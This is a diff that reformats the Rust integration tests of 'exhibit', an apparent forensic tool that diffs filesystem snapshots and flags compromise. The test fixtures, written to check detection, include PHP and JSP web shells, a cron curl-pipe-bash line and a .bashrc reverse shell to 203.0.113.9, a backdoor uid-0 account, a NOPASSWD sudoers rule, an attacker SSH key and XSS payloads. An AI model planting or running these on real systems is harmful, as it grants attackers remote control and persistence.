@@ -21,10 +21,16 @@ fn trees(files: &[(&str, &str)]) -> Trees {
     let old = tmp.path().join("old");
     let new = tmp.path().join("new");
     let base: Vec<(&str, &str)> = vec![
-        ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"),
+        (
+            "etc/passwd",
+            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
+        ),
         ("etc/group", "root:x:0:\nsudo:x:27:\nwww-data:x:33:\n"),
         ("etc/hostname", "web01\n"),
-        ("var/log/auth.log", "Jan 1 00:00:01 web01 sshd[1]: Accepted publickey for root\nJan 1 00:00:02 web01 sshd[1]: session opened\n"),
+        (
+            "var/log/auth.log",
+            "Jan 1 00:00:01 web01 sshd[1]: Accepted publickey for root\nJan 1 00:00:02 web01 sshd[1]: session opened\n",
+        ),
         ("var/log/syslog", "Jan 1 00:00:01 web01 kernel: boot\n"),
         ("var/www/html/index.php", "<?php echo 'hello'; ?>\n"),
         ("var/www/html/uploads/.keep", ""),
@@ -36,7 +42,11 @@ fn trees(files: &[(&str, &str)]) -> Trees {
             write(root, p, c.as_bytes());
         }
     }
-    Trees { _tmp: tmp, old, new }
+    Trees {
+        _tmp: tmp,
+        old,
+        new,
+    }
 }
 
 fn write(root: &Path, rel: &str, content: &[u8]) {
@@ -86,7 +96,11 @@ fn scan_json(dir: &Path) -> Value {
         .arg("--json")
         .output()
         .expect("run");
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     serde_json::from_slice(&out.stdout).expect("json")
 }
 
@@ -161,7 +175,11 @@ fn change_classes_added_removed_modified_metadata_type_renamed() {
     assert_eq!(change_of(&v, "/srv/gone.txt").as_deref(), Some("removed"));
     assert_eq!(change_of(&v, "/srv/new.txt").as_deref(), Some("added"));
     assert_eq!(change_of(&v, "/srv/moved.bin").as_deref(), Some("renamed"));
-    assert_eq!(change_of(&v, "/srv/move-me.bin"), None, "a rename is one change");
+    assert_eq!(
+        change_of(&v, "/srv/move-me.bin"),
+        None,
+        "a rename is one change"
+    );
     assert_eq!(change_of(&v, "/srv/mode.sh").as_deref(), Some("metadata"));
     assert_eq!(change_of(&v, "/srv/kind").as_deref(), Some("type_changed"));
     let mode = v["changes"]
@@ -170,7 +188,12 @@ fn change_classes_added_removed_modified_metadata_type_renamed() {
         .iter()
         .find(|c| c["path"] == "/srv/mode.sh")
         .expect("mode change");
-    assert!(mode["attributes"].as_array().expect("attrs").contains(&Value::from("mode")));
+    assert!(
+        mode["attributes"]
+            .as_array()
+            .expect("attrs")
+            .contains(&Value::from("mode"))
+    );
     assert_eq!(mode["old"]["mode"], "0644");
     assert_eq!(mode["new"]["mode"], "0755");
     let moved = v["changes"]
@@ -217,7 +240,11 @@ fn log_classes_appended_rotated_truncated_rewritten() {
     // An earlier line removed.
     write(n, "var/log/app/edit.log", b"a\nc\nd\n");
     // Rotated: content moved to .1, new empty log.
-    std::fs::rename(n.join("var/log/app/rot.log"), n.join("var/log/app/rot.log.1")).expect("mv");
+    std::fs::rename(
+        n.join("var/log/app/rot.log"),
+        n.join("var/log/app/rot.log.1"),
+    )
+    .expect("mv");
     write(n, "var/log/app/rot.log", b"r3\n");
     // Rotated and compressed.
     let gz = {
@@ -228,13 +255,38 @@ fn log_classes_appended_rotated_truncated_rewritten() {
     write(n, "var/log/app/rotgz.log.1.gz", &gz);
     write(n, "var/log/app/rotgz.log", b"");
     let v = diff_json(&t, &[]);
-    assert_eq!(change_of(&v, "/var/log/app/grow.log").as_deref(), Some("appended"));
-    assert_eq!(change_of(&v, "/var/log/app/cut.log").as_deref(), Some("truncated"));
-    assert_eq!(change_of(&v, "/var/log/app/edit.log").as_deref(), Some("rewritten"));
-    assert_eq!(change_of(&v, "/var/log/app/rot.log").as_deref(), Some("rotated"));
-    assert_eq!(change_of(&v, "/var/log/app/rotgz.log").as_deref(), Some("rotated"));
-    assert_has(&v, "/var/log/app/cut.log", "antiforensics.log_truncated", "high");
-    assert_has(&v, "/var/log/app/edit.log", "antiforensics.log_rewritten", "high");
+    assert_eq!(
+        change_of(&v, "/var/log/app/grow.log").as_deref(),
+        Some("appended")
+    );
+    assert_eq!(
+        change_of(&v, "/var/log/app/cut.log").as_deref(),
+        Some("truncated")
+    );
+    assert_eq!(
+        change_of(&v, "/var/log/app/edit.log").as_deref(),
+        Some("rewritten")
+    );
+    assert_eq!(
+        change_of(&v, "/var/log/app/rot.log").as_deref(),
+        Some("rotated")
+    );
+    assert_eq!(
+        change_of(&v, "/var/log/app/rotgz.log").as_deref(),
+        Some("rotated")
+    );
+    assert_has(
+        &v,
+        "/var/log/app/cut.log",
+        "antiforensics.log_truncated",
+        "high",
+    );
+    assert_has(
+        &v,
+        "/var/log/app/edit.log",
+        "antiforensics.log_rewritten",
+        "high",
+    );
     assert!(findings_on(&v, "/var/log/app/grow.log").is_empty());
     assert!(findings_on(&v, "/var/log/app/rot.log").is_empty());
 }
@@ -255,7 +307,11 @@ fn noise_stays_low_log_growth_images_sessions() {
     let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
     png.extend((0..2000u32).map(|i| (i % 256) as u8));
     write(n, "var/www/html/uploads/2026/11/logo.png", &png);
-    write(n, "var/lib/php/sessions/sess_8f2b1c0a9d", b"user|s:5:\"alice\";");
+    write(
+        n,
+        "var/lib/php/sessions/sess_8f2b1c0a9d",
+        b"user|s:5:\"alice\";",
+    );
     let v = diff_json(&t, &[]);
     let sev = max_severity(&v);
     assert!(
@@ -278,17 +334,46 @@ fn webshell_in_uploads_and_obfuscated_php() {
         "var/www/html/wp-includes/class-x.php",
         b"<?php if(isset($_REQUEST['x'])){ system($_REQUEST['x']); } ?>\n",
     );
-    write(&t.new, "var/www/html/static/run.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n");
+    write(
+        &t.new,
+        "var/www/html/static/run.jsp",
+        b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n",
+    );
     let v = diff_json(&t, &[]);
-    assert_has(&v, "/var/www/html/uploads/avatar.php", "webshell.eval_of_request_or_decoded_data", "critical");
-    assert_has(&v, "/var/www/html/uploads/avatar.php", "webshell.script_extension_in_upload_dir", "critical");
-    assert_has(&v, "/var/www/html/wp-includes/class-x.php", "webshell.eval_of_request_or_decoded_data", "critical");
-    assert_has(&v, "/var/www/html/static/run.jsp", "webshell.script_in_upload_dir", "high");
+    assert_has(
+        &v,
+        "/var/www/html/uploads/avatar.php",
+        "webshell.eval_of_request_or_decoded_data",
+        "critical",
+    );
+    assert_has(
+        &v,
+        "/var/www/html/uploads/avatar.php",
+        "webshell.script_extension_in_upload_dir",
+        "critical",
+    );
+    assert_has(
+        &v,
+        "/var/www/html/wp-includes/class-x.php",
+        "webshell.eval_of_request_or_decoded_data",
+        "critical",
+    );
+    assert_has(
+        &v,
+        "/var/www/html/static/run.jsp",
+        "webshell.script_in_upload_dir",
+        "high",
+    );
     // Findings come most severe first.
     assert_eq!(v["findings"][0]["severity"], "critical");
     // Triage without a baseline finds the same shell.
     let s = scan_json(&t.new);
-    assert_has(&s, "/var/www/html/uploads/avatar.php", "webshell.eval_of_request_or_decoded_data", "critical");
+    assert_has(
+        &s,
+        "/var/www/html/uploads/avatar.php",
+        "webshell.eval_of_request_or_decoded_data",
+        "critical",
+    );
 }
 
 #[test]
@@ -301,7 +386,12 @@ fn executables_by_magic_in_web_root_and_tmp() {
     chmod(&t.new, "dev/shm/.x/kworker", 0o755);
     write(&t.new, "tmp/.hidden", b"notes\n");
     let v = diff_json(&t, &[]);
-    assert_has(&v, "/var/www/html/uploads/thumb.jpg", "webshell.executable_in_web_root", "critical");
+    assert_has(
+        &v,
+        "/var/www/html/uploads/thumb.jpg",
+        "webshell.executable_in_web_root",
+        "critical",
+    );
     assert_has(&v, "/dev/shm/.x/kworker", "tmp.executable_file", "high");
     assert_has(&v, "/dev/shm/.x/kworker", "tmp.binary_file", "high");
     assert_has(&v, "/dev/shm/.x", "tmp.hidden_file", "medium");
@@ -319,20 +409,43 @@ fn timestamp_manipulation() {
     ]);
     let years_ago = SystemTime::now() - Duration::from_secs(3 * 365 * 86400);
     // A new file backdated with touch -d.
-    write(&t.new, "var/www/html/wp-load-cache.php", b"<?php echo 1; ?>\n");
+    write(
+        &t.new,
+        "var/www/html/wp-load-cache.php",
+        b"<?php echo 1; ?>\n",
+    );
     set_mtime(&t.new, "var/www/html/wp-load-cache.php", years_ago);
     // An existing file rewritten and backdated where mtime and ctime agree.
     write(&t.new, "srv/app/b.conf", b"b changed\n");
     set_mtime(&t.new, "srv/app/b.conf", years_ago);
     // A time in the future.
     write(&t.new, "srv/app/future.conf", b"f\n");
-    set_mtime(&t.new, "srv/app/future.conf", SystemTime::now() + Duration::from_secs(400 * 86400));
+    set_mtime(
+        &t.new,
+        "srv/app/future.conf",
+        SystemTime::now() + Duration::from_secs(400 * 86400),
+    );
     let v = diff_json(&t, &[]);
-    assert_has(&v, "/var/www/html/wp-load-cache.php", "timestamps.new_file_predates_baseline", "high");
-    assert_has(&v, "/srv/app/b.conf", "timestamps.mtime_much_older_than_ctime", "medium");
+    assert_has(
+        &v,
+        "/var/www/html/wp-load-cache.php",
+        "timestamps.new_file_predates_baseline",
+        "high",
+    );
+    assert_has(
+        &v,
+        "/srv/app/b.conf",
+        "timestamps.mtime_much_older_than_ctime",
+        "medium",
+    );
     assert_has(&v, "/srv/app/future.conf", "timestamps.future", "medium");
     let s = scan_json(&t.new);
-    assert_has(&s, "/srv/app/b.conf", "timestamps.mtime_much_older_than_ctime", "medium");
+    assert_has(
+        &s,
+        "/srv/app/b.conf",
+        "timestamps.mtime_much_older_than_ctime",
+        "medium",
+    );
 }
 
 #[test]
@@ -343,9 +456,21 @@ fn accounts_uid0_new_user_sudoers_authorized_keys() {
         "etc/passwd",
         b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/bin/bash\nsysupd:x:0:0::/root:/bin/bash\nbackup2:x:1001:1001::/home/backup2:/bin/sh\n",
     );
-    write(&t.new, "etc/group", b"root:x:0:\nsudo:x:27:backup2\nwww-data:x:33:\n");
-    write(&t.new, "etc/sudoers", b"root ALL=(ALL:ALL) ALL\nbackup2 ALL=(ALL) NOPASSWD: ALL\n");
-    write(&t.new, "root/.ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker@kali\n");
+    write(
+        &t.new,
+        "etc/group",
+        b"root:x:0:\nsudo:x:27:backup2\nwww-data:x:33:\n",
+    );
+    write(
+        &t.new,
+        "etc/sudoers",
+        b"root ALL=(ALL:ALL) ALL\nbackup2 ALL=(ALL) NOPASSWD: ALL\n",
+    );
+    write(
+        &t.new,
+        "root/.ssh/authorized_keys",
+        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker@kali\n",
+    );
     let v = diff_json(&t, &[]);
     assert_has(&v, "/etc/passwd", "accounts.extra_uid0", "critical");
     assert_has(&v, "/etc/passwd", "accounts.new_user", "high");
@@ -353,7 +478,12 @@ fn accounts_uid0_new_user_sudoers_authorized_keys() {
     assert_has(&v, "/etc/group", "accounts.admin_group_member", "high");
     assert_has(&v, "/etc/sudoers", "accounts.sudoers_changed", "high");
     assert_has(&v, "/etc/sudoers", "accounts.sudoers_nopasswd_all", "high");
-    assert_has(&v, "/root/.ssh/authorized_keys", "accounts.authorized_keys_changed", "high");
+    assert_has(
+        &v,
+        "/root/.ssh/authorized_keys",
+        "accounts.authorized_keys_changed",
+        "high",
+    );
     let s = scan_json(&t.new);
     assert_has(&s, "/etc/passwd", "accounts.extra_uid0", "critical");
 }
@@ -361,29 +491,78 @@ fn accounts_uid0_new_user_sudoers_authorized_keys() {
 #[test]
 fn persistence_cron_systemd_rc_preload_shell_startup() {
     let t = trees(&[
-        ("etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"),
+        (
+            "etc/crontab",
+            "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
+        ),
         ("etc/systemd/system/multi-user.target.wants/.keep", ""),
         ("root/.bashrc", "alias ll='ls -l'\n"),
     ]);
     let n = &t.new;
-    write(n, "etc/cron.d/sync", b"*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | bash\n");
+    write(
+        n,
+        "etc/cron.d/sync",
+        b"*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | bash\n",
+    );
     write(n, "etc/systemd/system/dbus-helper.service", b"[Service]\nExecStart=/dev/shm/.x/kworker -c /dev/shm/.x/c\n[Install]\nWantedBy=multi-user.target\n");
     std::os::unix::fs::symlink(
         "/tmp/.cache/evil.service",
         n.join("etc/systemd/system/multi-user.target.wants/evil.service"),
     )
     .expect("ln");
-    write(n, "etc/rc.local", b"#!/bin/sh\n/usr/local/bin/helper &\nexit 0\n");
-    write(n, "etc/ld.so.preload", b"/usr/lib/x86_64-linux-gnu/libselinux.so.3\n");
-    write(n, "root/.bashrc", b"alias ll='ls -l'\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n");
+    write(
+        n,
+        "etc/rc.local",
+        b"#!/bin/sh\n/usr/local/bin/helper &\nexit 0\n",
+    );
+    write(
+        n,
+        "etc/ld.so.preload",
+        b"/usr/lib/x86_64-linux-gnu/libselinux.so.3\n",
+    );
+    write(
+        n,
+        "root/.bashrc",
+        b"alias ll='ls -l'\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
+    );
     let v = diff_json(&t, &[]);
     assert_has(&v, "/etc/cron.d/sync", "persistence.cron_changed", "medium");
-    assert_has(&v, "/etc/cron.d/sync", "persistence.cron_fetch_pipe_shell", "critical");
-    assert_has(&v, "/etc/systemd/system/dbus-helper.service", "persistence.systemd_exec_from_tmp_or_hidden", "critical");
-    assert_has(&v, "/etc/systemd/system/multi-user.target.wants/evil.service", "persistence.systemd_wants_link_to_tmp_or_hidden", "critical");
-    assert_has(&v, "/etc/rc.local", "persistence.rc_script_changed", "medium");
-    assert_has(&v, "/etc/ld.so.preload", "persistence.ld_so_preload", "critical");
-    assert_has(&v, "/root/.bashrc", "persistence.shell_startup_fetch_or_reverse_shell", "critical");
+    assert_has(
+        &v,
+        "/etc/cron.d/sync",
+        "persistence.cron_fetch_pipe_shell",
+        "critical",
+    );
+    assert_has(
+        &v,
+        "/etc/systemd/system/dbus-helper.service",
+        "persistence.systemd_exec_from_tmp_or_hidden",
+        "critical",
+    );
+    assert_has(
+        &v,
+        "/etc/systemd/system/multi-user.target.wants/evil.service",
+        "persistence.systemd_wants_link_to_tmp_or_hidden",
+        "critical",
+    );
+    assert_has(
+        &v,
+        "/etc/rc.local",
+        "persistence.rc_script_changed",
+        "medium",
+    );
+    assert_has(
+        &v,
+        "/etc/ld.so.preload",
+        "persistence.ld_so_preload",
+        "critical",
+    );
+    assert_has(
+        &v,
+        "/root/.bashrc",
+        "persistence.shell_startup_fetch_or_reverse_shell",
+        "critical",
+    );
     // The unchanged crontab is not flagged.
     assert!(findings_on(&v, "/etc/crontab").is_empty());
 }
@@ -399,7 +578,12 @@ fn privilege_new_setuid_and_setgid() {
     chmod(&t.new, "usr/bin/find2", 0o2755);
     let v = diff_json(&t, &[]);
     assert_has(&v, "/var/tmp/sh2", "privilege.new_setuid_setgid", "high");
-    assert_has(&v, "/var/tmp/sh2", "privilege.setuid_outside_system_dirs", "critical");
+    assert_has(
+        &v,
+        "/var/tmp/sh2",
+        "privilege.setuid_outside_system_dirs",
+        "critical",
+    );
     assert_has(&v, "/usr/bin/find2", "privilege.new_setuid_setgid", "high");
     // An existing setuid program that did not change is not a finding.
     assert!(findings_on(&v, "/usr/bin/passwd").is_empty());
@@ -414,7 +598,11 @@ fn md5_hex(b: &[u8]) -> String {
 fn system_binary_differs_from_dpkg_md5sums_merged_usr() {
     let ls_v1 = b"\x7fELF ls version 1".to_vec();
     let cat_v1 = b"\x7fELF cat version 1".to_vec();
-    let list = format!("{}  bin/ls\n{}  usr/bin/cat\n", md5_hex(&ls_v1), md5_hex(&cat_v1));
+    let list = format!(
+        "{}  bin/ls\n{}  usr/bin/cat\n",
+        md5_hex(&ls_v1),
+        md5_hex(&cat_v1)
+    );
     let t = trees(&[("var/lib/dpkg/info/coreutils.md5sums", &list)]);
     for root in [&t.old, &t.new] {
         write(root, "usr/bin/ls", &ls_v1);
@@ -436,7 +624,10 @@ fn system_binary_differs_from_dpkg_md5sums_merged_usr() {
 fn package_upgrade_with_matching_md5sums_is_not_flagged() {
     let v1 = b"\x7fELF cat version 1".to_vec();
     let v2 = b"\x7fELF cat version 2, upgraded".to_vec();
-    let t = trees(&[("var/lib/dpkg/info/coreutils.md5sums", &format!("{}  usr/bin/cat\n", md5_hex(&v1)))]);
+    let t = trees(&[(
+        "var/lib/dpkg/info/coreutils.md5sums",
+        &format!("{}  usr/bin/cat\n", md5_hex(&v1)),
+    )]);
     write(&t.old, "usr/bin/cat", &v1);
     write(&t.new, "usr/bin/cat", &v2);
     write(
@@ -447,13 +638,20 @@ fn package_upgrade_with_matching_md5sums_is_not_flagged() {
     let v = diff_json(&t, &[]);
     assert_eq!(change_of(&v, "/usr/bin/cat").as_deref(), Some("modified"));
     let sev = max_severity(&v);
-    assert!(matches!(sev, "none" | "info" | "low"), "upgrade rated {sev}: {:#}", v["findings"]);
+    assert!(
+        matches!(sev, "none" | "info" | "low"),
+        "upgrade rated {sev}: {:#}",
+        v["findings"]
+    );
 }
 
 #[test]
 fn anti_forensics_logs_and_history() {
     let t = trees(&[
-        ("var/log/nginx/access.log", "1.2.3.4 - - GET /\n5.6.7.8 - - POST /uploads/avatar.php\n"),
+        (
+            "var/log/nginx/access.log",
+            "1.2.3.4 - - GET /\n5.6.7.8 - - POST /uploads/avatar.php\n",
+        ),
         ("home/alice/.bash_history", "sudo -i\n"),
         ("home/bob/.zsh_history", "ls\n"),
     ]);
@@ -464,12 +662,37 @@ fn anti_forensics_logs_and_history() {
     std::os::unix::fs::symlink("/dev/null", n.join("home/alice/.bash_history")).expect("ln");
     std::fs::remove_file(n.join("home/bob/.zsh_history")).expect("rm");
     let v = diff_json(&t, &[]);
-    assert_has(&v, "/var/log/nginx/access.log", "antiforensics.log_deleted", "high");
-    assert_has(&v, "/root/.bash_history", "antiforensics.history_emptied", "high");
-    assert_has(&v, "/home/alice/.bash_history", "antiforensics.replaced_by_symlink", "critical");
-    assert_has(&v, "/home/bob/.zsh_history", "antiforensics.log_deleted", "high");
+    assert_has(
+        &v,
+        "/var/log/nginx/access.log",
+        "antiforensics.log_deleted",
+        "high",
+    );
+    assert_has(
+        &v,
+        "/root/.bash_history",
+        "antiforensics.history_emptied",
+        "high",
+    );
+    assert_has(
+        &v,
+        "/home/alice/.bash_history",
+        "antiforensics.replaced_by_symlink",
+        "critical",
+    );
+    assert_has(
+        &v,
+        "/home/bob/.zsh_history",
+        "antiforensics.log_deleted",
+        "high",
+    );
     let s = scan_json(&t.new);
-    assert_has(&s, "/home/alice/.bash_history", "antiforensics.replaced_by_symlink", "high");
+    assert_has(
+        &s,
+        "/home/alice/.bash_history",
+        "antiforensics.replaced_by_symlink",
+        "high",
+    );
 }
 
 #[test]
@@ -487,9 +710,14 @@ fn known_bad_and_known_good_hash_sets() {
         ("bad.sha256", format!("{bad_hex}  linpeas.sh\n")),
         (
             "bad.hashdeep",
-            format!("%%%% HASHDEEP-1.0\n%%%% size,md5,sha256,filename\n## Invoked from: /\n33,00000000000000000000000000000000,{bad_hex},/x/linpeas.sh\n"),
+            format!(
+                "%%%% HASHDEEP-1.0\n%%%% size,md5,sha256,filename\n## Invoked from: /\n33,00000000000000000000000000000000,{bad_hex},/x/linpeas.sh\n"
+            ),
         ),
-        ("bad.csv", format!("filename,sha256\nlinpeas.sh,{bad_hex}\n")),
+        (
+            "bad.csv",
+            format!("filename,sha256\nlinpeas.sh,{bad_hex}\n"),
+        ),
     ];
     let good_file = dir.path().join("good.sha256");
     std::fs::write(&good_file, format!("{good_hex}  lib.php\n")).expect("write");
@@ -543,17 +771,30 @@ fn archive_baseline_against_live_tree_and_html_report() {
         .args(["--case", "C1", "--examiner", "Tester", "--json", "-q"])
         .output()
         .expect("capture");
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let cap: Value = serde_json::from_slice(&out.stdout).expect("json");
     let archive = PathBuf::from(cap["archive"].as_str().expect("archive"));
     // The incident: the same tree changed in place after the capture.
     std::fs::OpenOptions::new()
         .append(true)
         .open(t.new.join("var/log/auth.log"))
-        .and_then(|mut f| std::io::Write::write_all(&mut f, b"Jan 1 00:10:00 web01 sshd[9]: Accepted password for root\n"))
+        .and_then(|mut f| {
+            std::io::Write::write_all(
+                &mut f,
+                b"Jan 1 00:10:00 web01 sshd[9]: Accepted password for root\n",
+            )
+        })
         .expect("append");
     write(&t.new, "etc/motd", b"welcome\n<script>alert(1)</script>\n");
-    write(&t.new, "var/www/html/uploads/<img src=x onerror=alert(1)>.php", b"<?php system($_GET['c']); ?>");
+    write(
+        &t.new,
+        "var/www/html/uploads/<img src=x onerror=alert(1)>.php",
+        b"<?php system($_GET['c']); ?>",
+    );
     let html = t.old.parent().expect("parent").join("report.html");
     let out = exhibit()
         .arg("diff")
@@ -564,17 +805,34 @@ fn archive_baseline_against_live_tree_and_html_report() {
         .arg(&html)
         .output()
         .expect("diff");
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     let v: Value = serde_json::from_slice(&out.stdout).expect("json");
     assert_eq!(v["old"]["kind"], "archive");
     assert_eq!(v["new"]["kind"], "directory");
-    assert_eq!(change_of(&v, "/var/log/auth.log").as_deref(), Some("appended"));
+    assert_eq!(
+        change_of(&v, "/var/log/auth.log").as_deref(),
+        Some("appended")
+    );
     assert_eq!(change_of(&v, "/etc/motd").as_deref(), Some("modified"));
-    assert_eq!(change_of(&v, "/etc/hostname"), None, "unchanged files are not changes");
+    assert_eq!(
+        change_of(&v, "/etc/hostname"),
+        None,
+        "unchanged files are not changes"
+    );
     let page = std::fs::read_to_string(&html).expect("html");
-    assert!(!page.contains("<script>alert(1)</script>"), "content is escaped");
+    assert!(
+        !page.contains("<script>alert(1)</script>"),
+        "content is escaped"
+    );
     assert!(!page.contains("<img src=x"), "paths are escaped");
-    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the line diff is in the report");
+    assert!(
+        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
+        "the line diff is in the report"
+    );
     assert!(page.contains("webshell.eval_of_request_or_decoded_data"));
 }
 
@@ -586,7 +844,10 @@ fn missing_snapshot_is_a_clear_error() {
         .expect("run");
     assert_eq!(out.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent/a"));
-    let out = exhibit().args(["scan", "/nonexistent/s"]).output().expect("run");
+    let out = exhibit()
+        .args(["scan", "/nonexistent/s"])
+        .output()
+        .expect("run");
     assert_eq!(out.status.code(), Some(2));
 }
 
